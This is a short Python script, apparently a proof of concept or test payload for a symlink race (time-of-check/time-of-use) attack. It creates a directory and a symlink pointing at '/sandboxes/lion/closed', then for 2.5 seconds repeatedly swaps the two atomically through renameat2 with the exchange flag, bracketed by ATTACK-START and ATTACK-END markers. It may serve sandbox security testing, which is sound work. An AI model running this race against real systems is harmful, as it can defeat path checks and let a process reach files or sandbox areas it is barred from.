import ctypes, os, time

libc = ctypes.CDLL(None)
EXCHANGE = 2
print("ATTACK-START", flush=True)
os.mkdir("a")
with open("a/name", "w") as file:
    file.write("mine")
os.symlink("/sandboxes/lion/closed", "b")
end = time.monotonic() + 2.5
while time.monotonic() < end:
    libc.renameat2(-100, b"a", -100, b"b", EXCHANGE)
print("ATTACK-END")
